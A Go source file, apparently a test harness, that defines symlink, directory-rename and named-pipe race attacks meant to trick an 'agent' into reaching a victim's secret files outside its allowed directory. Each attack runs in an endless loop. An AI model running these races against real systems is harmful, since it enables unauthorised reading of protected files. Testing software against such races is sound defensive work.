package escape

import (
	"os"
	"path/filepath"
	"runtime"

	"golang.org/x/sys/unix"
)

// races are won between two steps of the agent; each tries as fast as it can, in turns with the others.
var races = []attack{
	{"a directory is a link as soon as it is made", func(g ground) {
		at, away := filepath.Join(g.web, "secrets"), filepath.Join(g.web, "away")
		race(func() {
			if unix.Rename(at, away) == nil {
				_ = unix.Symlink(g.victim+"/dir", at)
				_ = os.RemoveAll(away)
			} else {
				_ = unix.Unlink(at)
			}
		})
	}},
	{"a file is a pipe as soon as it was looked at", func(g ground) {
		a, b := g.sharedFile("turns"), g.sharedFile("pipe")
		write(a, "a file")
		_ = unix.Mkfifo(b, 0o666)
		race(func() { _ = exchange(a, b) })
	}},
	{"a file is a link as soon as it was looked at", func(g ground) {
		a, b := g.sharedFile("swap"), g.sharedFile("secret")
		write(a, "mine")
		_ = os.Symlink(g.victim+"/secret", b)
		race(func() { _ = exchange(a, b) })
	}},
}

// race tries for ever, a burst at a time.
func race(try func()) {
	for {
		for range 100 {
			try()
		}
		runtime.Gosched()
	}
}
